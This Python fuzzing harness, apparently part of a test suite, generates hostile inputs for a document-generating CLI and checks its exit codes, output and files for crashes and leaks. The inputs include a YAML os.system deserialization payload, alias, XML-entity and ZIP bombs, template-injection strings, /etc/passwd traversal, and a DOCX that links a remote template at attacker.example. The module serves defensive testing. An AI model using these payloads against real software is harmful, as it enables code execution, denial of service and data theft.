"""Hostile and broken inputs for every door of the CLI, made reproducibly from a seed.

One generator and one judge serve two runners: ``tests/test_fuzz.py`` runs a small share in
CI (each named hostile class once, and a seeded sample), and

    python -m tests.fuzzcases --count 5000 [--seed 1] [--jobs 2] [--failures FILE]

runs a long campaign and prints the figures (exit codes, problems by kind, time, memory).

The doors: ``build`` (answers files, profiles, templates, letterheads, the environment:
this module), and ``batch``, ``registry import/set/export/due``, ``plan``, ``interview
--resume``, the register's ``--db`` and letterheads without a «Normal» style
(tests/fuzz_doors.py, with the tables of tests/fuzz_tables.py). Each case is laid out in a
fresh folder (``WORK/a/b``; ``WORK/secret.txt`` is a file no command names, holding a
marker) and runs one or more command lines there, each judged; in a forked child with its
address space limited, so that a bomb fails the case and not the runner, and its peak
memory is known.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import csv
import functools
import hashlib
import io
import json
import os
import random
import re
import select
import shutil
import signal
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = sorted((ROOT / "samples").glob("*.yaml"))
PROFILE = ROOT / "xbdocs" / "data" / "profiles" / "altai-krai.yaml"
TEMPLATES = ROOT / "templates"
#: Each command of a case is stopped after this long (a hang).
SECONDS_PER_CASE = 20
#: A forked case runs with its address space limited to this (a bomb fails with
#: MemoryError instead of taking the machine), and its peak resident memory is judged.
ADDRESS_SPACE = 1536 * 1024**2
PEAK_MB = 500


#: A file's content, or how to make it: costly contents (DOCX files, a ZIP bomb) are made
#: when the case is run, not when it is drawn, so drawing many cases is cheap.
Content = bytes | str | Callable[[], bytes | str]


@dataclass
class Case:
    """Runs of the CLI: files to lay out in the case's folder, and the command lines."""

    name: str
    files: dict[str, Content] = field(default_factory=dict)
    #: The build door's options, after ``build answers.yaml -o out`` (when no commands).
    args: list[str] = field(default_factory=list)
    env: dict[str, str] = field(default_factory=dict)
    #: Called with the case's folder after the files are laid out (links, FIFOs, folders).
    setup: Callable[[Path], None] | None = None
    #: Templates copied into ``templates/`` before the files (which may replace some).
    templates: bool = False
    #: Which door: build, batch, registry, plan, interview, db, letterhead.
    door: str = "build"
    #: Full command lines (after ``xbdocs --lang en``), run in order in the case's folder,
    #: each judged; ``@@SECRET@@`` stands for the secret file's path.
    commands: list[list[str]] = field(default_factory=list)
    #: What standard input holds; None: closed (as ``xbdocs … <&-`` leaves it).
    stdin: str | None = ""
    #: What the secret file holds beside its marker: plain, yaml (an answers file quoting
    #: it) or secret-answers (a valid answers file whose subject is the marker).
    secret: str = "plain"
    #: The command lines are hostile themselves: a usage error (exit 2) is a clean refusal.
    usage_errors: bool = False
    #: Called with the case's folder after the first command (to damage what it made).
    between: Callable[[Path], None] | None = None

    def file(self, name: str) -> bytes | str:
        """The content of one of the case's files, made if it is made on demand."""
        data = self.files[name]
        return data() if callable(data) else data


# --- answers files ------------------------------------------------------------------------

@functools.cache
def _parsed(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def parsed(path: Path):
    """A YAML file's data (a fresh copy: read once a process, PyYAML is slow)."""
    return copy.deepcopy(_parsed(path))


def _base(rng: random.Random) -> dict:
    return parsed(rng.choice(SAMPLES))


def _paths(node, prefix=()) -> list[tuple]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


HOSTILE_TEXT = [
    "{{ 7*7 }}", "{% if %}", "{{ ''.__class__ }}", "@clause x", "**", "\ue000", "\ue0010\ue001",
    "\ue002ref0", "\ue002refX", "Ә&<>«»\"'", "\x1b]0;pwned\x07", "\x1b[2J\x1b[31mred",
    "a\nerror: forged line", "\u0085next", "line\u2028sep", "para\u2029sep", "\x85\x9b",
    "\u202eevil", "x" * 3000, "", " ", "null", "~", "9999-12-31", "0001-01-01", "2026-02-30",
    "../../etc/passwd", "NaN", "1e309", "-0", "Павлодар Pavlodar 巴甫洛达尔", "\U0001F600",
]
SCALARS = [None, True, False, 0, -1, 10**12, 1.5, float("nan"), float("inf"), [], {},
           "2012-09-19", "19.09.2012", "31.02.2012"]


def _value(rng: random.Random):
    roll = rng.random()
    if roll < 0.5:
        return rng.choice(HOSTILE_TEXT)
    if roll < 0.8:
        return copy.deepcopy(rng.choice(SCALARS))
    return "".join(chr(rng.choice([rng.randrange(0x20, 0x7f), rng.randrange(0x400, 0x4ff),
                                   rng.randrange(0, 0x20), rng.randrange(0x80, 0xa0),
                                   rng.randrange(0xe000, 0xe010), rng.randrange(0x2000, 0x2070)]))
                   for _ in range(rng.randrange(0, 30)))


def mutate(data, rng: random.Random, times: int) -> None:
    """Change ``times`` random places of ``data`` in place: a hostile value, a key removed,
    an unknown key beside it."""
    paths = _paths(data)
    if not paths:
        return
    for _ in range(times):
        path = rng.choice(paths)
        node = data
        try:
            for key in path[:-1]:
                node = node[key]
            action = rng.choice(["set", "set", "delete", "unknown"])
            if action == "delete" and isinstance(node, dict):
                node.pop(path[-1], None)
            elif action == "unknown" and isinstance(node, dict):
                suffix = rng.choice(["_x", "\x1b[1m", "é"])
                node[f"{path[-1]}{suffix}"] = _value(rng)
            else:
                node[path[-1]] = _value(rng)
        except (KeyError, IndexError, TypeError):
            pass


def _mutated(rng: random.Random) -> str:
    data = _base(rng)
    mutate(data, rng, rng.randrange(1, 4))
    return yaml.safe_dump(data, allow_unicode=True)


def _sample_text(rng: random.Random) -> str:
    return rng.choice(SAMPLES).read_text(encoding="utf-8")


def _replace_line(text: str, key: str, value: str) -> str:
    """Set the first ``key: …`` line (any indentation) to ``value``, raw YAML."""
    lines = text.splitlines()
    for index, line in enumerate(lines):
        stripped = line.lstrip()
        if stripped.startswith(f"{key}:"):
            indent = line[: len(line) - len(stripped)]
            lines[index] = f"{indent}{key}: {value}"
            break
    return "\n".join(lines) + "\n"


RAW_VALUES = [
    "2026-02-30", "2026-13-01", "2026-01-01 25:00:00", "25:00:00", "9999-12-31", "0001-01-01",
    "!!python/object/apply:os.system ['true']", "!!python/name:os.system", "!!int abc",
    "!custom x", "!!timestamp x", "!!binary aGVsbG8=", "!!float abc", "!!str 5", "!!set {a}",
    "&a [*a]", "*nowhere", "=", "<<: {x: 1}", "[" * 600 + "]" * 600, "{a: " * 300 + "1" + "}" * 300,
    "\"\\e]0;title\\a\"", "\"\\ue002ref0\"", "\"a\\u2028b\"", "\"\\x85\"", "'\\x1b'", "0x1F",
    "1_000", ".inf", "-.nan", "2012-09-19T10:00:00Z", "\"" + "\\u00e9" * 5000 + "\"",
]
RAW_KEYS = ["date", "years", "notice_months", "copies", "ru", "kk", "gender", "track",
            "catalogue", "areas", "place", "inn", "bin", "renewal", "format", "mode"]


def _raw_mutated(rng: random.Random) -> str:
    return _replace_line(_sample_text(rng), rng.choice(RAW_KEYS), rng.choice(RAW_VALUES))


def _alias_bomb() -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for index in range(1, 10):
        prev = chr(ord("a") + index - 1)
        name = chr(ord("a") + index)
        lines.append(f"{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, "
                     f"*{prev}, *{prev}, *{prev}]")
    return "\n".join(lines) + "\n"


SPECIAL_ANSWERS = {
    "alias-bomb": _alias_bomb(),
    "recursive-alias": "a: &a [*a]\n",
    "merge-key": "base: &b {track: regional}\n<<: *b\n",
    "merge-inline": "<<: {track: regional}\n",
    "deep-list": "a: " + "[" * 900 + "]" * 900 + "\n",
    "deep-map": "a:\n" + "".join("  " * i + f" k{i}:\n" for i in range(1, 400)) + "  x: 1\n",
    "python-object": "!!python/object/apply:os.system ['echo pwned']\n",
    "binary": "track: !!binary aGVsbG8=\n",
    "empty": "",
    "only-comment": "# nothing\n",
    "list-root": "- a\n- b\n",
    "scalar-root": "42\n",
    "bom": "\ufefftrack: municipal\n",
    "latin1": "track: caf\xe9\n".encode("latin-1"),
    "nul": "track: mu\x00nicipal\n",
    "huge": "a: " + "x" * 3_000_000 + "\n",
    "complex-key": "? [a, b]\n: 1\n",
    "null-key": "~: 1\n",
}


# --- the other inputs: profiles, templates, letterheads, the environment -------------------

PROFILE_VARIANTS = ["traversal", "long", "slash", "dot", "unicode", "empty", "bomb", "tag",
                    "dup-id", "nul"]


def _profile_cases(rng: random.Random, variant: str | None = None) -> Case:
    text = PROFILE.read_text(encoding="utf-8")
    choice = variant or rng.choice(PROFILE_VARIANTS)
    step_id = {"traversal": "../../../elsewhere/pwn", "long": "x" * 300, "slash": "a/b",
               "dot": "..", "unicode": "шаг", "empty": '""', "bomb": "*x", "tag": "!!int 5",
               "dup-id": "registration", "nul": '"a\\0b"'}[choice]
    text = text.replace("- id: approval-request", f"- id: {step_id}", 1)
    return Case(f"profile-{choice}", {"answers.yaml": _sample_text(rng), "profile.yaml": text},
                ["--stage", rng.choice(["approval", "all"]), "--profile", "profile.yaml",
                 "--no-sheet-count"])


HOSTILE_TEMPLATES = {
    "range": "{% for i in range(10**9) %}x{% endfor %}",
    "nested-range": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                    "{% endfor %}",
    "big-string": "{{ 'x' * 1500000000 }}",
    "big-power": "{{ 10 ** 10 ** 10 }}",
    "big-format": "{{ '%999999999s' % 'x' }}",
    "big-center": "{{ 'x'|center(1000000000) }}",
    "self-include": "{% include 'ru/notice.txt' %}",
    "money-nan": "{{ money('NaN') }}",
    "money-inf": "{{ money(1e400) }}",
    "count-huge": "{{ count(10**30, 'год') }}",
    "date-bad": "{{ date('x') }}",
    "class": "{{ ''.__class__.__mro__ }}",
    "recursion": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "lipsum": "{{ lipsum(100000) }}",
    "str-format": "{{ '{:999999999}'.format(1) }}",
    "replace": "{{ ('x' * 100000)|replace('x', 'y' * 100000) }}",
}


TEMPLATE_VARIANTS = [*HOSTILE_TEMPLATES, "non-utf8", "directory", "symlink", "missing"]


def _template_case(rng: random.Random, variant: str | None = None) -> Case:
    choice = variant or rng.choice(TEMPLATE_VARIANTS)
    files: dict[str, bytes | str] = {"answers.yaml": SAMPLES[0].read_text(encoding="utf-8")}
    setup = None
    name = "templates/ru/notice.txt"
    if choice in HOSTILE_TEMPLATES:
        files[name] = "@title\n" + HOSTILE_TEMPLATES[choice] + "\n"
    elif choice == "non-utf8":
        files[name] = "@title\nкириллица\n".encode("cp1251")
    elif choice == "directory":
        def setup(folder: Path) -> None:
            target = folder / name
            target.unlink()
            target.mkdir()
    elif choice == "symlink":
        def setup(folder: Path) -> None:
            target = folder / "templates/ru/agreement.txt"
            secret = folder / "secret.txt"
            secret.write_text("@title\nSECRET-OUTSIDE\n", encoding="utf-8")
            target.unlink()
            target.symlink_to(secret)
    else:
        def setup(folder: Path) -> None:
            (folder / "templates/kk/agreement.txt").unlink()
    command = rng.choice([["--stage", "approval", "--no-sheet-count", "--templates",
                           "templates"], ["--templates", "templates"], ["lint"]])
    return Case(f"template-{choice}", files, command, templates=True, setup=setup)


def _docx(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def _real_docx() -> bytes:
    """A small real DOCX with a header (made once per process: python-docx is slow)."""
    from docx import Document

    buffer = io.BytesIO()
    document = Document()
    document.sections[0].header.paragraphs[0].text = "АДМИНИСТРАЦИЯ"
    document.save(buffer)
    return buffer.getvalue()


def _with_parts(base: bytes, replace: dict[str, bytes | str | None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts: dict[str, bytes | str] = {n: archive.read(n) for n in archive.namelist()}
    for name, data in replace.items():
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    return _docx(parts)


def _entity_body(level: int) -> str:
    return ("&lol" + str(level - 1) + ";") * 10 if level > 1 else "&lol;" * 10


ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{_entity_body(i)}">' for i in range(1, 10))
               + ']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
               '2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>'
               '</w:document>')


def _zip_bomb() -> bytes:
    """300 MB of zeros in a small DOCX-looking ZIP (≈ 1 s to pack: made once, kept in the
    fuzz cache folder for every process)."""
    from tests import fuzz_tables

    return fuzz_tables.cached("docx-zip-bomb-1.docx", lambda: _docx({
        "[Content_Types].xml": b"<x/>", "word/big.bin": b"\0" * 300_000_000}))


def _edited(replace: dict[str, bytes | str | None]) -> Callable[[], bytes]:
    """How to make the real DOCX with some parts replaced (``None``: removed)."""
    return lambda: _with_parts(_real_docx(), replace)


def _letterhead_case(rng: random.Random, variant: str | None = None) -> Case:
    variants: dict[str, Callable[[], bytes]] = {
        "text": lambda: b"not a docx at all",
        "empty": lambda: b"",
        "truncated": lambda: _real_docx()[: len(_real_docx()) // 2],
        "broken-xml": _edited({"word/document.xml": "<w:document"}),
        "no-sectpr": _edited({"word/document.xml": (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main"><w:body><w:p/></w:body></w:document>')}),
        "no-styles": _edited({"word/styles.xml": None}),
        "no-document": _edited({"word/document.xml": None}),
        "entity-bomb": _edited({"word/document.xml": ENTITY_BOMB}),
        "zip-bomb": _zip_bomb,
        "docm": _edited({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "external-template": _edited({"word/_rels/settings.xml.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            '</Relationships>')}),
        "good": _real_docx,
    }
    choice = variant or rng.choice(list(variants))
    return Case(f"letterhead-{choice}", {"answers.yaml": _sample_text(rng),
                                         "blank.docx": variants[choice]},
                ["--stage", "approval", "--no-sheet-count", "--letterhead", "blank.docx"])


ENVIRONMENT_VARIANTS = ["today-dotted", "today-junk", "today-far", "fifo", "dev-zero",
                        "directory", "unreadable", "missing", "outdir-is-file",
                        "manifest-is-dir", "dangling-link", "check-stage"]
LETTERHEAD_VARIANTS = ["text", "empty", "truncated", "broken-xml", "no-sectpr", "no-styles",
                       "no-document", "entity-bomb", "zip-bomb", "docm", "external-template",
                       "good"]


def _environment_case(rng: random.Random, variant: str | None = None) -> Case:
    choice = variant or rng.choice(ENVIRONMENT_VARIANTS)
    case = Case(f"env-{choice}", {"answers.yaml": _sample_text(rng)})
    if choice.startswith("today"):
        case.env["XBDOCS_TODAY"] = {"today-dotted": "15.12.2026", "today-junk": "tomorrow",
                                    "today-far": "9999-12-31"}[choice]
        case.args = ["--stage", "approval", "--no-sheet-count"]
    elif choice == "fifo":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.mkfifo(folder / "answers.yaml"))
    elif choice == "dev-zero":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.symlink("/dev/zero", folder / "answers.yaml"))
    elif choice == "directory":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.mkdir(folder / "answers.yaml"))
    elif choice == "unreadable":
        case.setup = lambda folder: os.chmod(folder / "answers.yaml", 0)
    elif choice == "missing":
        case.setup = lambda folder: os.unlink(folder / "answers.yaml")
    elif choice == "outdir-is-file":
        case.files["out"] = "a file"
    elif choice == "manifest-is-dir":
        def setup(folder: Path) -> None:
            (folder / "out" / "manifest.json").mkdir(parents=True)
            (folder / "out" / "agreement.ru.docx").write_bytes(b"old")
        case.setup = setup
        case.args = ["--force"]
    elif choice == "dangling-link":
        def setup(folder: Path) -> None:
            (folder / "out").mkdir()
            (folder / "out" / "agreement.kk.docx").symlink_to(folder / "nowhere")
        case.setup = setup
    elif choice == "check-stage":
        case.args = ["check-command"]
    return case


def _build_case(rng: random.Random) -> Case:
    roll = rng.random()
    if roll < 0.45:
        return Case("mutated", {"answers.yaml": _mutated(rng)})
    if roll < 0.70:
        return Case("raw", {"answers.yaml": _raw_mutated(rng)})
    if roll < 0.76:
        name = rng.choice(list(SPECIAL_ANSWERS))
        return Case(f"special-{name}", {"answers.yaml": SPECIAL_ANSWERS[name]})
    if roll < 0.84:
        return _profile_cases(rng)
    if roll < 0.91:
        return _template_case(rng)
    if roll < 0.96:
        return _letterhead_case(rng)
    return _environment_case(rng)


#: How the long campaign shares its inputs among the doors.
DOOR_SHARES = {"build": 0.40, "batch": 0.20, "registry": 0.18, "plan": 0.10,
               "interview": 0.05, "db": 0.025, "letterhead": 0.025, "accounts": 0.02}


def make_case(rng: random.Random, index: int) -> Case:
    """The ``index``-th generated case: a door by :data:`DOOR_SHARES`, then its input."""
    from tests import fuzz_doors

    door = rng.choices(list(DOOR_SHARES), list(DOOR_SHARES.values()))[0]
    case = _build_case(rng) if door == "build" else fuzz_doors.DOORS[door][0](rng)
    case.name = f"{index}-{case.name}"
    return case


def named_cases() -> dict[str, Case]:
    """Each named hostile class once, by name, for every door. Drawing is cheap (< 1 s):
    what costs — a DOCX, a workbook, a bomb — is made when a case runs."""
    from tests import fuzz_doors

    rng = random.Random(7)
    cases = [Case(f"special-{name}", {"answers.yaml": text})
             for name, text in SPECIAL_ANSWERS.items()]
    for make, variants in ((_profile_cases, PROFILE_VARIANTS),
                           (_template_case, TEMPLATE_VARIANTS),
                           (_letterhead_case, LETTERHEAD_VARIANTS),
                           (_environment_case, ENVIRONMENT_VARIANTS),
                           *fuzz_doors.DOORS.values()):
        cases += [make(rng, variant) for variant in variants]
    named = {case.name: case for case in cases}
    assert len(named) == len(cases), "two named cases share a name"
    return named


# --- running a case -------------------------------------------------------------------------

@dataclass
class Outcome:
    name: str
    #: The exit code of each command (or «hang», «memory», «raised X», «signal N»).
    codes: list
    problems: list[str]
    door: str = "build"
    #: Peak resident memory of the process that ran the case, in MB (forked runs only).
    peak_mb: float = 0.0
    seconds: float = 0.0

    @property
    def code(self):
        """The case's exit code: the first that is not 0, else 0."""
        return next((c for c in self.codes if c != 0), 0)


class _Hang(Exception):
    pass


def _listing(folder: Path) -> dict[str, tuple[int, int]]:
    found = {}
    for path in folder.rglob("*"):
        with contextlib.suppress(OSError):
            info = path.lstat()
            found[path.relative_to(folder).as_posix()] = (info.st_size, info.st_mtime_ns)
    return found


def marker_of(case: Case) -> str:
    return "SECRET-MARKER-" + hashlib.sha256(case.name.encode()).hexdigest()[:16]


def _secret_text(case: Case, marker: str) -> str:
    if case.secret == "yaml":
        return f"track: {marker}\nsubject: {{ru: {marker}, kk: {marker}}}\n{marker}: 1\n"
    if case.secret == "secret-answers":
        data = yaml.safe_load(SAMPLES[1].read_text(encoding="utf-8"))
        data["subject"] = {"ru": marker, "kk": marker}
        return yaml.safe_dump(data, allow_unicode=True)
    return f"{marker}\n"


def _placed(text: str, secret: Path) -> str:
    from tests.fuzz_tables import SECRET

    return text.replace(SECRET, str(secret))


def _build_argv(case: Case) -> list[str]:
    """The build door's command line, from its options (the older cases' form)."""
    args = [str(arg) for arg in case.args]
    if args[:1] == ["lint"]:
        return ["templates", "lint", "templates"]
    if args[:1] == ["check-command"]:
        return ["check", "answers.yaml"]
    return ["build", "answers.yaml", "-o", "out", *args]


def commands_of(case: Case, secret: Path) -> list[list[str]]:
    return [[_placed(arg, secret) for arg in command]
            for command in (case.commands or [_build_argv(case)])]


def lay_out(case: Case, work: Path) -> tuple[Path, Path]:
    """The case's files in ``work/a/b`` and the secret file in ``work``; both paths."""
    folder = work / "a" / "b"
    folder.mkdir(parents=True)
    secret = work / "secret.txt"
    secret.write_text(_secret_text(case, marker_of(case)), encoding="utf-8")
    if case.templates:
        shutil.copytree(TEMPLATES, folder / "templates")
    for name in case.files:
        data = case.file(name)
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(_placed(data, secret), encoding="utf-8", errors="surrogatepass")
        else:
            path.write_bytes(data)
    if case.setup:
        case.setup(folder)
    return folder, secret


def _run_command(argv: list[str], stdin: str | None, seconds: int) -> tuple:
    """Run ``xbdocs --lang en ARGV`` in this process: its exit code, stdout and stderr."""
    from xbdocs.cli import main

    err, out = io.StringIO(), io.StringIO()
    old_stdin = sys.stdin
    sys.stdin = None if stdin is None else io.StringIO(stdin)

    def alarm(signum, frame):
        raise _Hang

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(seconds)
    code: int | str
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            main(["--lang", "en", *argv])
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
    except _Hang:
        code = "hang"
    except MemoryError:
        code = "memory"
    except BaseException as exc:
        code = f"raised {type(exc).__name__}"
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
        sys.stdin = old_stdin
    return code, out.getvalue(), err.getvalue()


def _run_here(case: Case, work: Path, seconds: int) -> Outcome:
    """Lay the case out in ``work`` (an empty folder), run its commands in this process one
    after another, and judge each and what they left."""
    started = time.perf_counter()
    folder, secret = lay_out(case, work)
    commands = commands_of(case, secret)
    old_env = {key: os.environ.get(key)
               for key in [*case.env, "XDG_DATA_HOME", "HOME", "XBDOCS_CACHE_DIR"]}
    if not os.environ.get("XBDOCS_CACHE_DIR"):  # never the user's cache (in ~, moved)
        from tests import fuzz_tables

        os.environ["XBDOCS_CACHE_DIR"] = str(fuzz_tables.cache_folder() / "xbdocs-cache")
    # A register command without --db would use the user's own, «~» the user's home: here
    # both are in WORK, where the judge sees what is written.
    os.environ["XDG_DATA_HOME"] = str(work / "xdg")
    os.environ["HOME"] = str(work / "home")
    os.environ.update({key: _placed(value, secret) for key, value in case.env.items()})
    cwd = os.getcwd()
    os.chdir(folder)
    _reset_peak()
    codes: list = []
    problems: list[str] = []
    try:
        for index, argv in enumerate(commands):
            before = _listing(work)
            code, out, err = _run_command(argv, case.stdin, seconds)
            codes.append(code)
            found = judge_run(code, out, err, argv, case, secret)
            found += judge_files(work, folder, before, argv, code, case)
            prefix = f"[{index + 1}:{' '.join(_words(argv))}] " if len(commands) > 1 else ""
            problems += [prefix + problem for problem in found]
            if index == 0 and case.between:
                case.between(folder)
    finally:
        os.chdir(cwd)
        for key, value in old_env.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return Outcome(case.name, codes, problems, case.door,
                   seconds=round(time.perf_counter() - started, 2))


def _words(argv: list[str]) -> list[str]:
    """The words that say what a command is: «registry import», «batch»."""
    words = [a for a in argv if a.isalpha()]
    return words[:2] if argv[0] == "registry" else words[:1]


def run_case(case: Case, work: Path, seconds: int = SECONDS_PER_CASE,
             isolate: bool | None = None) -> Outcome:
    """Run and judge ``case`` in ``work`` (an empty folder): in a forked child with its
    address space limited (where the system forks), else in this process."""
    if isolate is None:
        isolate = hasattr(os, "fork")
    if not isolate:
        return _run_here(case, work, seconds)
    return next(run_many([(case, work)], 1, seconds))


def _limit_memory(limit: int = ADDRESS_SPACE) -> None:
    with contextlib.suppress(ImportError, ValueError, OSError):
        import resource

        size = 0
        with contextlib.suppress(OSError, ValueError, IndexError):
            size = int(Path("/proc/self/statm").read_text().split()[0]) * os.sysconf(
                "SC_PAGE_SIZE")
        limit = max(limit, size + 512 * 1024**2)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def _reset_peak() -> None:
    """Forget the peak resident memory so far (Linux: «5» to clear_refs resets VmHWM), so
    that the peak judged is the commands', not what making the case's inputs took."""
    with contextlib.suppress(OSError):
        Path("/proc/self/clear_refs").write_text("5")


def _peak_mb() -> float:
    with contextlib.suppress(OSError, ValueError, IndexError):
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return round(int(line.split()[1]) / 1024, 1)
    return 0.0


def _send(fd: int, outcome: Outcome) -> None:
    data = json.dumps(asdict(outcome), ensure_ascii=False).encode("utf-8")
    while data:
        data = data[os.write(fd, data):]


@dataclass
class _Child:
    """A case running in a forked child, which sends its outcome through a pipe."""

    case: Case
    work: Path
    pid: int
    fd: int
    deadline: float
    started: float
    chunks: list[bytes] = field(default_factory=list)


def _start(case: Case, work: Path, seconds: int) -> _Child:
    import resource

    commands = max(len(case.commands), 1)
    reader, writer = os.pipe()
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:  # the child: run, report, and leave without the parent's clean-up
        status = 0
        try:
            os.close(reader)
            _limit_memory()
            outcome = _run_here(case, work, seconds)
            outcome.peak_mb = _peak_mb() or round(
                resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1)
            _send(writer, outcome)
        except BaseException as exc:
            status = 1
            with contextlib.suppress(BaseException):
                _send(writer, Outcome(case.name, [f"raised {type(exc).__name__}"], [
                    f"runner: {type(exc).__name__}: {str(exc)[:200]}"], case.door))
        finally:
            os._exit(status)
    os.close(writer)
    now = time.monotonic()
    return _Child(case, work, pid, reader, now + seconds * commands + 30, now)


def _finish(child: _Child, killed: bool) -> Outcome:
    if killed:
        with contextlib.suppress(OSError):
            os.kill(child.pid, signal.SIGKILL)
    os.close(child.fd)
    _pid, status = os.waitpid(child.pid, 0)
    took = round(time.monotonic() - child.started, 2)
    name, door = child.case.name, child.case.door
    if killed:
        return Outcome(name, ["hang"], [f"hang: killed after {took:.0f} s"], door,
                       seconds=took)
    try:
        outcome = Outcome(**json.loads(b"".join(child.chunks).decode("utf-8")))
    except (ValueError, TypeError):
        why = (f"signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status)
               else f"exit {os.WEXITSTATUS(status)}")
        return Outcome(name, [why], [f"runner died: {why}"], door, seconds=took)
    if outcome.peak_mb > PEAK_MB:
        outcome.problems.append(f"memory: peak {outcome.peak_mb:.0f} MB")
    return outcome


def run_many(cases: Iterable[tuple[Case, Path]], jobs: int = 2,
             seconds: int = SECONDS_PER_CASE) -> Iterator[Outcome]:
    """Run each (case, empty folder) in a forked child, ``jobs`` at a time; their outcomes
    as they finish. Cases are drawn from ``cases`` only when a child is free to run one."""
    if not hasattr(os, "fork"):  # pragma: no cover - Windows: one at a time, here
        for case, work in cases:
            yield _run_here(case, work, seconds)
        return
    pending = iter(cases)
    running: dict[int, _Child] = {}
    exhausted = False
    while running or not exhausted:
        while not exhausted and len(running) < jobs:
            item = next(pending, None)
            if item is None:
                exhausted = True
                break
            child = _start(*item, seconds)
            running[child.fd] = child
        if not running:
            break
        wait = max(0.0, min(c.deadline for c in running.values()) - time.monotonic())
        ready, _w, _x = select.select(list(running), [], [], wait)
        for fd in ready:
            chunk = os.read(fd, 65536)
            if chunk:
                running[fd].chunks.append(chunk)
            else:
                yield _finish(running.pop(fd), killed=False)
        now = time.monotonic()
        for fd in [fd for fd, c in running.items() if c.deadline <= now]:
            yield _finish(running.pop(fd), killed=True)


# --- the judge ------------------------------------------------------------------------------

#: What must never reach a terminal: controls (C0 but tab and newline, DEL, C1), line and
#: paragraph separators, direction overrides.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
PASSWD_LINE = "root:x:0:0"
PASSWORD = "SECRETPW"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?\d+([.,]\d+)?")


def _allowed_codes(argv: list[str], case: Case) -> set:
    allowed = {0, 1}
    if argv[:1] == ["registry"] and "due" in argv:
        allowed |= {3, 4}  # something falls due, something is overdue: for cron
    if case.usage_errors:
        allowed.add(2)
    return allowed


def judge_run(code, out: str, err: str, argv: list[str], case: Case,
              secret: Path) -> list[str]:
    """What is wrong with one command's run: its exit code and what it printed."""
    problems = []
    if code not in _allowed_codes(argv, case):
        problems.append(f"exit {code}")
    text = out + err
    if "internal error" in text or "Traceback" in text:
        problems.append("internal error")
    if "MemoryError" in text:
        problems.append("memory: MemoryError")
    lines = text.splitlines()
    if any(len(line) > 1000 for line in lines):
        problems.append("message over 1000 characters")
    # The interview's «\r» ends a line typed at its prompt; the rest is judged.
    shown = CONTROLS.search(text.replace("\r\n", "\n"))
    if shown:
        problems.append(f"control character in messages: {shown[0]!r}")
    if any(line.startswith("error: forged") for line in lines):
        problems.append("forged message line")
    named = " ".join(argv)
    if marker_of(case) in text and str(secret) not in named and "secret.txt" not in named:
        problems.append("leaked contents: the secret file's marker")
    if PASSWD_LINE in text and "/etc/passwd" not in named:
        problems.append("leaked contents: a line of /etc/passwd")
    if PASSWORD in text:
        problems.append("secret: the database password shown")
    return problems


def _named_outputs(argv: list[str], case: Case) -> list[str]:
    """What a command line names for writing: its output file or folder, the register."""
    found = []
    defaults = {"build": "out", "plan": "plan", "interview": "answers.yaml",
                "notice": "notice"}
    if argv[:1] and argv[0] in defaults and not {"-o", "--output", "--outdir"} & set(argv):
        found.append(defaults[argv[0]])
    for index, arg in enumerate(argv[:-1]):
        if arg in ("-o", "--output", "--outdir", "--ics", "--build", "--db"):
            found.append(argv[index + 1])
    if argv[:1] in (["registry"], ["plan"], ["notice"]) and "--db" not in argv:
        found.append(case.env.get("XBDOCS_DB", ""))
    paths = []
    for value in found:
        if value.startswith("sqlite:///"):
            value = value.removeprefix("sqlite:///").split("?")[0]
        if not value:
            paths.append("~/../xdg")  # no register named: the default one, in WORK
        elif "://" not in value:
            paths.append(value)
